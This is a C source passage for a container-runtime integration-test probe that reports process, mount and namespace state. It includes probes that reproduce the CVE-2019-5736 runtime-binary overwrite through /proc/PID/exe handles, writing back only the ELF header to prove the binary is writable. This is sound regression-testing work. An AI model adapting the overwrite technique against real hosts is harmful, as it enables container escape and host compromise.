/* ocitest: a tiny static probe copied into every integration-test rootfs as
 * /ocitest. Each command answers one question about the process it runs in
 * and prints one line (mountinfo prints the table). Several commands can be
 * chained with a lone "+" argument, so one container answers many questions
 * as one process (useful when the answer depends on being pid 1):
 *
 *   /ocitest pid + ids + umask
 *
 * Exit status: 0, or 2 for a usage error; `exit N` exits N at once.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <limits.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/statfs.h>
#include <sys/statvfs.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/types.h>
#include <sys/utsname.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static void usage(void) {
  fprintf(stderr,
          "usage: ocitest CMD [ARGS] [+ CMD [ARGS]]...\n"
          "  caps | nnp | seccomp | sigmask | fds | rlimit NAME | ids | umask\n"
          "  isatty FD | ttyname FD | pid | ppid | sid | cwd | env NAME | oom_score_adj\n"
          "  hostname | monotonic | boottime | ns NAME | cgroup\n"
          "  write PATH | read PATH | cat PATH | stat PATH | readlink PATH | exists PATH\n"
          "  statfs PATH | statfs-ro PATH | mountinfo | mountopts PATH\n"
          "  forks N SECS | sleep SECS | exit N | segv | trap FILE | echo WORDS... | stderr WORDS...\n"
          "  syscall NAME|NR | fdlinks | mount SRC DST TYPE FLAGS | umount PATH\n"
          "  overwrite PATH [MS] | attackexe ARGV0 STOPFILE SECS | hijack FIFO STOPFILE SECS\n"
          "  entries DIR\n");
}

/* Prints the value of a "Key:\tvalue" line of /proc/self/status. */
static const char *status_field(const char *key, char *buf, size_t len) {
  FILE *f = fopen("/proc/self/status", "r");
  if (!f) return NULL;
  char line[512];
  size_t klen = strlen(key);
  const char *res = NULL;
  while (fgets(line, sizeof line, f)) {
    if (strncmp(line, key, klen) == 0 && line[klen] == ':') {
      char *v = line + klen + 1;
      while (*v == ' ' || *v == '\t') v++;
      v[strcspn(v, "\n")] = 0;
      snprintf(buf, len, "%s", v);
      res = buf;
      break;
    }
  }
  fclose(f);
  return res;
}

static void print_status_fields(const char *const *keys, const char *const *labels, int n) {
  char buf[256];
  for (int i = 0; i < n; i++) {
    const char *v = status_field(keys[i], buf, sizeof buf);
    printf("%s%s=%s", i ? " " : "", labels[i], v ? v : "?");
  }
  printf("\n");
}

static const struct {
  const char *name;
  int res;
} kRlimits[] = {
    {"CPU", RLIMIT_CPU},       {"FSIZE", RLIMIT_FSIZE},     {"DATA", RLIMIT_DATA},
    {"STACK", RLIMIT_STACK},   {"CORE", RLIMIT_CORE},       {"RSS", RLIMIT_RSS},
    {"NPROC", RLIMIT_NPROC},   {"NOFILE", RLIMIT_NOFILE},   {"MEMLOCK", RLIMIT_MEMLOCK},
    {"AS", RLIMIT_AS},         {"LOCKS", RLIMIT_LOCKS},     {"SIGPENDING", RLIMIT_SIGPENDING},
    {"MSGQUEUE", RLIMIT_MSGQUEUE}, {"NICE", RLIMIT_NICE},   {"RTPRIO", RLIMIT_RTPRIO},
    {"RTTIME", RLIMIT_RTTIME},
};

static void print_rlim(rlim_t v) {
  if (v == RLIM_INFINITY)
    printf("unlimited");
  else
    printf("%llu", (unsigned long long)v);
}

static const char *strip_rlimit_prefix(const char *n) {
  return strncmp(n, "RLIMIT_", 7) == 0 ? n + 7 : n;
}

static char file_type_char(mode_t m) {
  if (S_ISREG(m)) return '-';
  if (S_ISDIR(m)) return 'd';
  if (S_ISCHR(m)) return 'c';
  if (S_ISBLK(m)) return 'b';
  if (S_ISLNK(m)) return 'l';
  if (S_ISFIFO(m)) return 'p';
  if (S_ISSOCK(m)) return 's';
  return '?';
}

/* Unescapes the \040-style octal escapes of /proc/self/mountinfo. */
static void unescape_mount_path(char *s) {
  char *out = s;
  for (char *in = s; *in;) {
    if (in[0] == '\\' && in[1] >= '0' && in[1] <= '7' && in[2] && in[3]) {
      *out++ = (char)((in[1] - '0') * 64 + (in[2] - '0') * 8 + (in[3] - '0'));
      in += 4;
    } else {
      *out++ = *in++;
    }
  }
  *out = 0;
}

/* ---- CVE-2019-5736 probes ------------------------------------------------
 * The published exploit: get an O_PATH handle on /proc/PID/exe of a runtime
 * process that entered the container, then reopen it for writing through
 * /proc/self/fd/N (retrying while the kernel says ETXTBSY, i.e. until the
 * runtime has exited or exec'd) and overwrite the runtime's binary. */

static long long now_ms(void) {
  struct timespec ts;
  clock_gettime(CLOCK_MONOTONIC, &ts);
  return (long long)ts.tv_sec * 1000 + ts.tv_nsec / 1000000;
}

static void fd_link(int fd, char *buf, size_t len) {
  char p[64];
  snprintf(p, sizeof p, "/proc/self/fd/%d", fd);
  ssize_t n = readlink(p, buf, len - 1);
  if (n < 0) n = 0;
  buf[n] = 0;
}

/* Tries, for up to WAIT_MS, to write through handle H (an O_PATH fd). Writes
 * "WROTE" or "denied <step>: <error>" into OUT. Returns 1 if it wrote.
 * The write puts back the file's own first bytes (the ELF magic): it proves
 * the binary writable without breaking it for the tests that follow. */
static int overwrite_handle(int h, int wait_ms, char *out, size_t len) {
  char self[64];
  snprintf(self, sizeof self, "/proc/self/fd/%d", h);
  char head[4] = {0x7f, 'E', 'L', 'F'};
  int rd = open(self, O_RDONLY | O_CLOEXEC);
  if (rd >= 0) {
    if (pread(rd, head, sizeof head, 0) != (ssize_t)sizeof head) memcpy(head, "\x7f" "ELF", 4);
    close(rd);
  }
  long long deadline = now_ms() + wait_ms;
  for (;;) {
    int fd = open(self, O_WRONLY | O_CLOEXEC);
    if (fd >= 0) {
      ssize_t n = pwrite(fd, head, sizeof head, 0);
      int err = errno;
      close(fd);
      if (n > 0) {
        snprintf(out, len, "WROTE");
        return 1;
      }
      snprintf(out, len, "denied write: %s", strerror(err));
    } else {
      snprintf(out, len, "denied open for writing: %s", strerror(errno));
    }
    if (now_ms() >= deadline) return 0;
    usleep(10000);
  }
}

/* A binary of the container's own rootfs (the ones the tests use), as
 * opposed to the runtime's. */
static int rootfs_binary(const char *link) {
  return !strncmp(link, "/bin/", 5) || !strcmp(link, "/ocitest") || !strncmp(link, "(", 1);
}

/* overwrite PATH [MS] on an already known path (/proc/1/exe): keeps trying
 * to get a handle for MS, then to write through it for what is left, and
 * stops once PATH leads to one of the rootfs's own binaries (the runtime
 * has exec'd the container's program: nothing of the runtime to get). */
static int overwrite_path(const char *path, int wait_ms, char *out, size_t len) {
  long long deadline = now_ms() + wait_ms;
  char first[128] = "";
  for (;;) {
    int h = open(path, O_PATH | O_CLOEXEC);
    if (h >= 0) {
      char link[PATH_MAX];
      fd_link(h, link, sizeof link);
      if (rootfs_binary(link)) {
        close(h);
        snprintf(out, len, "%.100s; then %.40s ran the container's %.80s",
                 first[0] ? first : "denied open", path, link);
        return 0;
      }
      long long left = deadline - now_ms();
      int wrote = overwrite_handle(h, left > 0 ? (int)left : 0, out, len);
      close(h);
      return wrote;
    }
    if (!first[0]) snprintf(first, sizeof first, "denied open: %s", strerror(errno));
    if (now_ms() >= deadline) {
      snprintf(out, len, "%s", first);
      return 0;
    }
    usleep(10000);
  }
}

/* argv[0] of PID, or "" */
static void proc_argv0(int pid, char *buf, size_t len) {
  char p[64];
  snprintf(p, sizeof p, "/proc/%d/cmdline", pid);
  buf[0] = 0;
  int fd = open(p, O_RDONLY | O_CLOEXEC);
  if (fd < 0) return;
  ssize_t n = read(fd, buf, len - 1);
  close(fd);
  if (n < 0) n = 0;
  buf[n] = 0; /* argv[0] ends at its NUL */
}

static void proc_exe(int pid, char *buf, size_t len) {
  char p[64];
  snprintf(p, sizeof p, "/proc/%d/exe", pid);
  ssize_t n = readlink(p, buf, len - 1);
  if (n < 0) {
    snprintf(buf, len, "(%s)", strerror(errno));
    return;
  }
  buf[n] = 0;
}


static int pid_gone(int pid) {
  char p[64], buf[512];
  snprintf(p, sizeof p, "/proc/%d/stat", pid);
  int fd = open(p, O_RDONLY | O_CLOEXEC);
  if (fd < 0) return 1;
  ssize_t n = read(fd, buf, sizeof buf - 1);
  close(fd);
  if (n <= 0) return 1;
  buf[n] = 0;
  char *rp = strrchr(buf, ')');
  return rp && (rp[2] == 'Z' || rp[2] == 'X');
}

/* Applies FN to every numeric /proc entry but ourselves. */
static void for_each_pid(void (*fn)(int pid, void *ctx), void *ctx) {
  DIR *d = opendir("/proc");
  if (!d) return;
  struct dirent *e;
  while ((e = readdir(d))) {
    char *end;
    long pid = strtol(e->d_name, &end, 10);
    if (*end || pid <= 0 || pid == getpid()) continue;
    fn((int)pid, ctx);
  }
  closedir(d);
}

/* attackexe: the runtime's processes, found by argv[0] through a shared
 * pid namespace, each held by an O_PATH handle on its exe. */
struct attack_target {
  int pid, handle, done, wrote;
  char exe[256], cmd[256], result[256], root[128];
};

struct attack_ctx {
  const char *argv0;
  struct attack_target t[256];
  int n;
};

/* A process is a new target when first seen and again whenever its exe
 * changes (the runtime re-executing itself from a copy). */
static void attack_find(int pid, void *vctx) {
  struct attack_ctx *c = vctx;
  if (c->n >= 256) return;
  char a0[PATH_MAX], path[64], exe[256];
  proc_argv0(pid, a0, sizeof a0);
  if (strcmp(a0, c->argv0) != 0) return;
  proc_exe(pid, exe, sizeof exe);
  if (exe[0] == '(') return; /* gone, or a zombie */
  for (int i = c->n - 1; i >= 0; i--)
    if (c->t[i].pid == pid) {
      if (!strcmp(c->t[i].exe, exe)) return;
      break;
    }
  struct attack_target *t = &c->t[c->n];
  memset(t, 0, sizeof *t);
  t->pid = pid;
  /* The command line without argv[0], spaces for NULs. */
  snprintf(path, sizeof path, "/proc/%d/cmdline", pid);
  int cf = open(path, O_RDONLY | O_CLOEXEC);
  if (cf >= 0) {
    char buf[4096];
    ssize_t n = read(cf, buf, sizeof buf - 1);
    close(cf);
    if (n > 0) {
      size_t skip = strnlen(buf, n) + 1;
      for (ssize_t i = 0; i < n; i++)
        if (!buf[i]) buf[i] = ' ';
      buf[n] = 0;
      snprintf(t->cmd, sizeof t->cmd, "%s", (ssize_t)skip < n ? buf + skip : "");
    }
  }
  snprintf(path, sizeof path, "/proc/%d/exe", pid);
  snprintf(t->exe, sizeof t->exe, "%s", exe);
  /* The other way in: the host's file through the process's root. Opened
   * for writing (no O_TRUNC), never written. */
  char rp[PATH_MAX + 64];
  snprintf(rp, sizeof rp, "/proc/%d/root%s", pid, c->argv0);
  int rfd = open(rp, O_WRONLY | O_CLOEXEC);
  snprintf(t->root, sizeof t->root, "%s", rfd >= 0 ? "WRITABLE" : strerror(errno));
  if (rfd >= 0) close(rfd);
  t->handle = open(path, O_PATH | O_CLOEXEC);
  if (t->handle < 0) {
    snprintf(t->result, sizeof t->result, "denied open: %s", strerror(errno));
    t->done = 1;
  }
  c->n++;
}

/* One write attempt per target not done yet; a target is done once it
 * wrote, or failed for another reason than ETXTBSY after its process
 * exited (once nobody runs the binary: when the published exploit writes). */
static void attack_try(struct attack_ctx *c, int final) {
  for (int i = 0; i < c->n; i++) {
    struct attack_target *t = &c->t[i];
    if (t->done) continue;
    int gone = pid_gone(t->pid);
    t->wrote = overwrite_handle(t->handle, 0, t->result, sizeof t->result);
    /* Busy: another process still runs that binary; keep trying. */
    int busy = strstr(t->result, strerror(ETXTBSY)) != NULL;
    if (t->wrote || (gone && !busy) || final) {
      t->done = 1;
      close(t->handle);
    }
  }
}

struct hijack_ctx {
  int seen[4096], nseen;
  int caught, wrote;
  const char *fifo;
};

static void hijack_one(int pid, void *vctx) {
  struct hijack_ctx *c = vctx;
  for (int i = 0; i < c->nseen; i++)
    if (c->seen[i] == pid) return;
  char exe[PATH_MAX], path[64], res[256];
  proc_exe(pid, exe, sizeof exe);
  if (rootfs_binary(exe)) return;  /* not (or no longer) the runtime */
  snprintf(path, sizeof path, "/proc/%d/exe", pid);
  int h = open(path, O_PATH | O_CLOEXEC);
  if (h < 0) return;
  fd_link(h, exe, sizeof exe);
  if (rootfs_binary(exe)) { /* it exec'd the container's program meanwhile */
    close(h);
    return;
  }
  if (c->nseen < 4096) c->seen[c->nseen++] = pid;
  /* Let the runtime go on: it may be blocked opening FIFO for writing. */
  int r = open(c->fifo, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
  long long deadline = now_ms() + 5000;
  char drain[4096];
  while (!pid_gone(pid) && now_ms() < deadline) {
    if (r >= 0) (void)!read(r, drain, sizeof drain);
    usleep(5000);
  }
  if (r >= 0) close(r);
  int wrote = overwrite_handle(h, 200, res, sizeof res);
  close(h);
  c->caught++;
  c->wrote += wrote;
  printf("caught pid %d exe=%s (%s): %s\n", pid, exe, pid_gone(pid) ? "exited" : "running", res);
  fflush(stdout);
}

static unsigned long mount_flags(const char *s) {
  unsigned long f = 0;
  char buf[256];
  snprintf(buf, sizeof buf, "%s", s);
  char *save = NULL;
  for (char *t = strtok_r(buf, ",", &save); t; t = strtok_r(NULL, ",", &save)) {
    if (!strcmp(t, "bind")) f |= MS_BIND;
    else if (!strcmp(t, "rec")) f |= MS_REC;
    else if (!strcmp(t, "remount")) f |= MS_REMOUNT;
    else if (!strcmp(t, "ro")) f |= MS_RDONLY;
    else if (!strcmp(t, "move")) f |= MS_MOVE;
    else if (!strcmp(t, "private")) f |= MS_PRIVATE;
  }
  return f;
}

static volatile sig_atomic_t g_sig;
volatile uintptr_t g_bad_address = 8;
static void on_signal(int sig) { g_sig = sig; }

/* Runs one command; returns the number of argv words it consumed or -1. */
static int run_one(int argc, char **argv) {
  const char *cmd = argv[0];
  const char *arg = argc > 1 ? argv[1] : NULL;
#define NEED_ARG()                                      \
  do {                                                  \
    if (!arg) {                                         \
      fprintf(stderr, "ocitest %s: missing argument\n", cmd); \
      return -1;                                        \
    }                                                   \
  } while (0)

  if (!strcmp(cmd, "caps")) {
    const char *k[] = {"CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"};
    const char *l[] = {"inh", "prm", "eff", "bnd", "amb"};
    print_status_fields(k, l, 5);
    return 1;
  }
  if (!strcmp(cmd, "nnp")) {
    char buf[64];
    const char *v = status_field("NoNewPrivs", buf, sizeof buf);
    printf("%s\n", v ? v : "?");
    return 1;
  }
  if (!strcmp(cmd, "seccomp")) {
    char buf[64];
    const char *v = status_field("Seccomp", buf, sizeof buf);
    printf("%s\n", v ? v : "?");
    return 1;
  }
  if (!strcmp(cmd, "sigmask")) {
    const char *k[] = {"SigBlk", "SigIgn"};
    const char *l[] = {"blk", "ign"};
    print_status_fields(k, l, 2);
    return 1;
  }
  if (!strcmp(cmd, "fds")) {
    DIR *d = opendir("/proc/self/fd");
    if (!d) {
      printf("%s\n", strerror(errno));
      return 1;
    }
    int self = dirfd(d), n = 0;
    struct dirent *e;
    int fds[1024];
    while ((e = readdir(d)) && n < 1024) {
      if (e->d_name[0] == '.') continue;
      int fd = atoi(e->d_name);
      if (fd <= 2 || fd == self) continue;
      fds[n++] = fd;
    }
    closedir(d);
    /* sort for a stable answer */
    for (int i = 1; i < n; i++)
      for (int j = i; j > 0 && fds[j - 1] > fds[j]; j--) {
        int t = fds[j];
        fds[j] = fds[j - 1];
        fds[j - 1] = t;
      }
    if (n == 0) printf("none");
    for (int i = 0; i < n; i++) printf("%s%d", i ? " " : "", fds[i]);
    printf("\n");
    return 1;
  }
  if (!strcmp(cmd, "rlimit")) {
    NEED_ARG();
    const char *name = strip_rlimit_prefix(arg);
    for (size_t i = 0; i < sizeof kRlimits / sizeof kRlimits[0]; i++) {
      if (strcasecmp(kRlimits[i].name, name) == 0) {
        struct rlimit rl;
        if (getrlimit(kRlimits[i].res, &rl) != 0) {
          printf("%s\n", strerror(errno));
          return 2;
        }
        print_rlim(rl.rlim_cur);
        printf(" ");
        print_rlim(rl.rlim_max);
        printf("\n");
        return 2;
      }
    }
    fprintf(stderr, "ocitest rlimit: unknown limit %s\n", arg);
    return -1;
  }
  if (!strcmp(cmd, "ids")) {
    gid_t groups[256];
    int n = getgroups(256, groups);
    printf("uid=%u gid=%u euid=%u egid=%u groups=", (unsigned)getuid(), (unsigned)getgid(),
           (unsigned)geteuid(), (unsigned)getegid());
    for (int i = 0; i < n; i++) printf("%s%u", i ? "," : "", (unsigned)groups[i]);
    printf("\n");
    return 1;
  }
  if (!strcmp(cmd, "umask")) {
    mode_t m = umask(0);
    umask(m);
    printf("%04o\n", (unsigned)m);
    return 1;
  }
  if (!strcmp(cmd, "isatty")) {
    NEED_ARG();
    printf("%s\n", isatty(atoi(arg)) ? "yes" : "no");
    return 2;
  }
  if (!strcmp(cmd, "ttyname")) {
    NEED_ARG();
    const char *n = ttyname(atoi(arg));
    printf("%s\n", n ? n : strerror(errno));
    return 2;
  }
  if (!strcmp(cmd, "pid")) {
    printf("%d\n", (int)getpid());
    return 1;
  }
  if (!strcmp(cmd, "ppid")) {
    printf("%d\n", (int)getppid());
    return 1;
  }
  if (!strcmp(cmd, "sid")) {
    printf("sid=%d pgid=%d\n", (int)getsid(0), (int)getpgid(0));
    return 1;
  }
  if (!strcmp(cmd, "cwd")) {
    char buf[PATH_MAX];
    printf("%s\n", getcwd(buf, sizeof buf) ? buf : strerror(errno));
    return 1;
  }
  if (!strcmp(cmd, "env")) {
    NEED_ARG();
    const char *v = getenv(arg);
    printf("%s\n", v ? v : "<unset>");
    return 2;
  }
  if (!strcmp(cmd, "oom_score_adj")) {
    FILE *f = fopen("/proc/self/oom_score_adj", "r");
    int v = 0;
    if (!f || fscanf(f, "%d", &v) != 1) {
      printf("%s\n", strerror(errno));
    } else {
      printf("%d\n", v);
    }
    if (f) fclose(f);
    return 1;
  }
  if (!strcmp(cmd, "hostname")) {
    struct utsname u;
    uname(&u);
    printf("%s %s\n", u.nodename, u.domainname);
    return 1;
  }
  if (!strcmp(cmd, "monotonic") || !strcmp(cmd, "boottime")) {
    struct timespec ts;
    clock_gettime(!strcmp(cmd, "monotonic") ? CLOCK_MONOTONIC : CLOCK_BOOTTIME, &ts);
    printf("%lld\n", (long long)ts.tv_sec);
    return 1;
  }
  if (!strcmp(cmd, "ns")) {
    NEED_ARG();
    char path[128], buf[128];
    snprintf(path, sizeof path, "/proc/self/ns/%s", arg);
    ssize_t n = readlink(path, buf, sizeof buf - 1);
    if (n < 0) {
      printf("%s\n", strerror(errno));
    } else {
      buf[n] = 0;
      printf("%s\n", buf);
    }
    return 2;
  }
  if (!strcmp(cmd, "write")) {
    NEED_ARG();
    int fd = open(arg, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
    if (fd < 0 || write(fd, "x\n", 2) != 2) {
      printf("%s\n", strerror(errno));
    } else {
      printf("ok\n");
    }
    if (fd >= 0) close(fd);
    return 2;
  }
  if (!strcmp(cmd, "read")) {
    NEED_ARG();
    int fd = open(arg, O_RDONLY | O_CLOEXEC);
    if (fd < 0) {
      printf("%s\n", strerror(errno));
      return 2;
    }
    char buf[65536];
    long long total = 0;
    ssize_t n;
    /* Read at most 1 MiB: enough to tell empty from non-empty. */
    while (total < (1 << 20) && (n = read(fd, buf, sizeof buf)) > 0) total += n;
    if (n < 0 && total == 0)
      printf("%s\n", strerror(errno));
    else
      printf("ok %lld\n", total);
    close(fd);
    return 2;
  }
  if (!strcmp(cmd, "cat")) {
    NEED_ARG();
    int fd = open(arg, O_RDONLY | O_CLOEXEC);
    if (fd < 0) {
      printf("%s\n", strerror(errno));
      return 2;
    }
    char buf[4096];
    ssize_t n;
    while ((n = read(fd, buf, sizeof buf)) > 0) fwrite(buf, 1, n, stdout);
    close(fd);
    return 2;
  }
  if (!strcmp(cmd, "stat")) {
    NEED_ARG();
    struct stat st;
    if (lstat(arg, &st) != 0) {
      printf("%s\n", strerror(errno));
      return 2;
    }
    printf("%c", file_type_char(st.st_mode));
    if (S_ISCHR(st.st_mode) || S_ISBLK(st.st_mode))
      printf(" %u:%u", major(st.st_rdev), minor(st.st_rdev));
    printf(" %04o %u:%u\n", (unsigned)(st.st_mode & 07777), (unsigned)st.st_uid,
           (unsigned)st.st_gid);
    return 2;
  }
  if (!strcmp(cmd, "readlink")) {
    NEED_ARG();
    char buf[PATH_MAX];
    ssize_t n = readlink(arg, buf, sizeof buf - 1);
    if (n < 0) {
      printf("%s\n", strerror(errno));
    } else {
      buf[n] = 0;
      printf("%s\n", buf);
    }
    return 2;
  }
  if (!strcmp(cmd, "exists")) {
    NEED_ARG();
    struct stat st;
    printf("%s\n", lstat(arg, &st) == 0 ? "yes" : "no");
    return 2;
  }
  if (!strcmp(cmd, "statfs") || !strcmp(cmd, "statfs-ro")) {
    NEED_ARG();
    struct statfs sf;
    struct statvfs sv;
    if (statfs(arg, &sf) != 0 || statvfs(arg, &sv) != 0) {
      printf("%s\n", strerror(errno));
      return 2;
    }
    if (!strcmp(cmd, "statfs-ro")) {
      printf("%s\n", (sv.f_flag & ST_RDONLY) ? "ro" : "rw");
    } else {
      printf("magic=0x%llx bytes=%llu %s%s%s%s\n", (unsigned long long)sf.f_type,
             (unsigned long long)sf.f_blocks * (unsigned long long)sf.f_bsize,
             (sv.f_flag & ST_RDONLY) ? "ro" : "rw", (sv.f_flag & ST_NOSUID) ? ",nosuid" : "",
             (sv.f_flag & ST_NODEV) ? ",nodev" : "", (sv.f_flag & ST_NOEXEC) ? ",noexec" : "");
    }
    return 2;
  }
  if (!strcmp(cmd, "mountinfo") || !strcmp(cmd, "cgroup")) {
    const char *p = !strcmp(cmd, "mountinfo") ? "/proc/self/mountinfo" : "/proc/self/cgroup";
    FILE *f = fopen(p, "r");
    if (!f) {
      printf("%s\n", strerror(errno));
      return 1;
    }
    char line[4096];
    while (fgets(line, sizeof line, f)) fputs(line, stdout);
    fclose(f);
    return 1;
  }
  if (!strcmp(cmd, "mountopts")) {
    /* "<fstype> <source> <mount options>,<super options>" of the last mount
     * whose mount point is exactly PATH, or "none". */
    NEED_ARG();
    FILE *f = fopen("/proc/self/mountinfo", "r");
    if (!f) {
      printf("%s\n", strerror(errno));
      return 2;
    }
    char line[4096], result[4096] = "none";
    while (fgets(line, sizeof line, f)) {
      line[strcspn(line, "\n")] = 0;
      char *save = NULL, *fields[64];
      int n = 0;
      for (char *t = strtok_r(line, " ", &save); t && n < 64; t = strtok_r(NULL, " ", &save))
        fields[n++] = t;
      int dash = -1;
      for (int i = 6; i < n; i++)
        if (!strcmp(fields[i], "-")) {
          dash = i;
          break;
        }
      if (n < 6 || dash < 0 || dash + 3 >= n + 1) continue;
      unescape_mount_path(fields[4]);
      if (strcmp(fields[4], arg) != 0) continue;
      snprintf(result, sizeof result, "%s %s %s,%s", fields[dash + 1],
               dash + 2 < n ? fields[dash + 2] : "?", fields[5],
               dash + 3 < n ? fields[dash + 3] : "");
    }
    fclose(f);
    printf("%s\n", result);
    return 2;
  }
  if (!strcmp(cmd, "sleep")) {
    NEED_ARG();
    fflush(stdout);
    sleep((unsigned)atoi(arg));
    return 2;
  }
  if (!strcmp(cmd, "exit")) {
    NEED_ARG();
    fflush(stdout);
    _exit(atoi(arg));
  }
  if (!strcmp(cmd, "forks")) {
    /* forks N SECS: tries to fork N children sleeping SECS each, prints
     * "forked K failed F <errno text of the first failure>", then reaps them. */
    NEED_ARG();
    if (argc < 3) {
      fprintf(stderr, "ocitest forks: usage: forks N SECS\n");
      return -1;
    }
    int n = atoi(arg), secs = atoi(argv[2]), ok = 0, failed = 0, first_err = 0;
    fflush(stdout);
    for (int i = 0; i < n; i++) {
      pid_t p = fork();
      if (p == 0) {
        sleep((unsigned)secs);
        _exit(0);
      }
      if (p < 0) {
        if (!failed) first_err = errno;
        failed++;
      } else {
        ok++;
      }
    }
    printf("forked %d failed %d%s%s\n", ok, failed, failed ? " " : "",
           failed ? strerror(first_err) : "");
    fflush(stdout);
    while (wait(NULL) > 0) {
    }
    return 3;
  }
  if (!strcmp(cmd, "segv")) {
    /* A kernel-generated SIGSEGV kills even a namespace's pid 1. */
    fflush(stdout);
    signal(SIGSEGV, SIG_DFL);
    *(volatile int *)g_bad_address = 1;
    return 1;
  }
  if (!strcmp(cmd, "trap")) {
    /* Waits for any catchable signal, writes its number to FILE, exits 0.
     * Prints "ready" once handlers are installed. */
    NEED_ARG();
    struct sigaction sa;
    memset(&sa, 0, sizeof sa);
    sa.sa_handler = on_signal;
    for (int s = 1; s < NSIG; s++) {
      if (s == SIGKILL || s == SIGSTOP || s == SIGCHLD) continue;
      sigaction(s, &sa, NULL);
    }
    printf("ready\n");
    fflush(stdout);
    while (!g_sig) pause();
    FILE *f = fopen(arg, "w");
    if (f) {
      fprintf(f, "%d\n", (int)g_sig);
      fclose(f);
    }
    return 2;
  }
  if (!strcmp(cmd, "syscall")) {
    /* Calls a syscall with all-zero arguments (harmless for these: clone3
     * gets a null clone_args) and prints "ok" or the errno name (ENOSYS,
     * EPERM, ...). NAME is one of the table, or a number. */
    NEED_ARG();
    static const struct {
      const char *name;
      long nr;
    } kSyscalls[] = {
      {"clone3", SYS_clone3},
      {"getpid", SYS_getpid},
      {"getppid", SYS_getppid},
      {"getrandom", SYS_getrandom},
      {"mkdirat", SYS_mkdirat},
      {"personality", SYS_personality},
      {"faccessat2", SYS_faccessat2},
      {"pidfd_open", SYS_pidfd_open},
    };
    long nr = -1;
    for (size_t i = 0; i < sizeof kSyscalls / sizeof kSyscalls[0]; i++)
      if (!strcmp(kSyscalls[i].name, arg)) nr = kSyscalls[i].nr;
    if (nr < 0) {
      char *end;
      nr = strtol(arg, &end, 10);
      if (*arg == 0 || *end != 0 || nr < 0) {
        fprintf(stderr, "ocitest syscall: unknown syscall %s\n", arg);
        return -1;
      }
    }
    long rc = syscall(nr, 0L, 0L, 0L, 0L, 0L, 0L);
    if (rc < 0) {
      const char *name = strerrorname_np(errno);
      printf("%s\n", name ? name : strerror(errno));
    } else {
      printf("ok\n");
    }
    return 2;
  }
  if (!strcmp(cmd, "fdlinks")) {
    /* "3=/path 4=pipe:[123]" for every open fd above 2, or "none". */
    DIR *d = opendir("/proc/self/fd");
    if (!d) {
      printf("%s\n", strerror(errno));
      return 1;
    }
    int self = dirfd(d), n = 0;
    struct dirent *e;
    while ((e = readdir(d))) {
      if (e->d_name[0] == '.') continue;
      int fd = atoi(e->d_name);
      if (fd <= 2 || fd == self) continue;
      char link[PATH_MAX];
      fd_link(fd, link, sizeof link);
      printf("%s%d=%s", n++ ? " " : "", fd, link);
    }
    closedir(d);
    printf("%s\n", n ? "" : "none");
    return 1;
  }
  if (!strcmp(cmd, "mount")) {
    /* mount SRC DST TYPE FLAGS: TYPE "-" for none, FLAGS a comma list of
     * bind,rec,remount,ro,move,private or "-". Prints "ok" or the error. */
    if (argc < 5) {
      fprintf(stderr, "ocitest mount: usage: mount SRC DST TYPE FLAGS\n");
      return -1;
    }
    const char *type = strcmp(argv[3], "-") ? argv[3] : NULL;
    int rc = mount(argv[1], argv[2], type, mount_flags(argv[4]), NULL);
    printf("%s\n", rc == 0 ? "ok" : strerror(errno));
    return 5;
  }
  if (!strcmp(cmd, "umount")) {
    /* umount PATH: plain, then lazy; "umount=<result> lazy=<result>". */
    NEED_ARG();
    int rc = umount2(arg, 0);
    printf("umount=%s", rc == 0 ? "ok" : strerror(errno));
    rc = umount2(arg, MNT_DETACH);
    printf(" lazy=%s\n", rc == 0 ? "ok" : strerror(errno));
    return 2;
  }
  if (!strcmp(cmd, "overwrite")) {
    /* overwrite PATH [MS]: the CVE-2019-5736 write through an O_PATH handle,
     * retried for MS milliseconds (default 0). "<link>: WROTE" or
     * "<link>: denied <step>: <error>". */
    NEED_ARG();
    int has_ms = argc > 2 && argv[2][0] >= '0' && argv[2][0] <= '9';
    int ms = has_ms ? atoi(argv[2]) : 0;
    char link[PATH_MAX], res[256];
    ssize_t n = readlink(arg, link, sizeof link - 1);
    link[n < 0 ? 0 : n] = 0;
    overwrite_path(arg, ms, res, sizeof res);
    printf("%s: %s\n", link, res);
    return has_ms ? 3 : 2;
  }
  if (!strcmp(cmd, "attackexe")) {
    /* attackexe ARGV0 STOPFILE SECS: until STOPFILE exists or SECS pass,
     * find every process whose argv[0] is ARGV0 (the runtime, seen through
     * a shared pid namespace), grab /proc/PID/exe (again whenever it
     * changes) and try to write through it, again and again until that
     * process has exited. Prints "watching"
     * once started, then one line per process,
     * "pid N exe=LINK (exited|running) [ARGS]: WROTE|denied ...; /proc/PID/rootARGV0: R"
     * (R: WRITABLE or why not, for the host's file reached through the
     * process's root), and "found=N wrote=M". */
    if (argc < 4) {
      fprintf(stderr, "ocitest attackexe: usage: attackexe ARGV0 STOPFILE SECS\n");
      return -1;
    }
    static struct attack_ctx c;
    memset(&c, 0, sizeof c);
    c.argv0 = argv[1];
    long long deadline = now_ms() + 1000LL * atoi(argv[3]);
    printf("watching\n");
    fflush(stdout);
    while (now_ms() < deadline && access(argv[2], F_OK) != 0) {
      for_each_pid(attack_find, &c);
      attack_try(&c, 0);
    }
    /* Processes still running get until then to exit. */
    long long grace = now_ms() + 2000;
    for (;;) {
      int pending = 0;
      for (int i = 0; i < c.n; i++) pending += !c.t[i].done;
      if (!pending || now_ms() >= grace) break;
      attack_try(&c, 0);
      usleep(10000);
    }
    attack_try(&c, 1);
    int wrote = 0;
    for (int i = 0; i < c.n; i++) {
      printf("pid %d exe=%s (%s) [%s]: %s; /proc/PID/root%s: %s\n", c.t[i].pid, c.t[i].exe,
             pid_gone(c.t[i].pid) ? "exited" : "running", c.t[i].cmd, c.t[i].result, c.argv0,
             c.t[i].root);
      wrote += c.t[i].wrote;
    }
    printf("found=%d wrote=%d\n", c.n, wrote);
    return 4;
  }
  if (!strcmp(cmd, "entries")) {
    /* entries DIR: "entries=N" (without . and ..), or the error. */
    NEED_ARG();
    DIR *d = opendir(arg);
    if (!d) {
      printf("%s\n", strerror(errno));
      return 2;
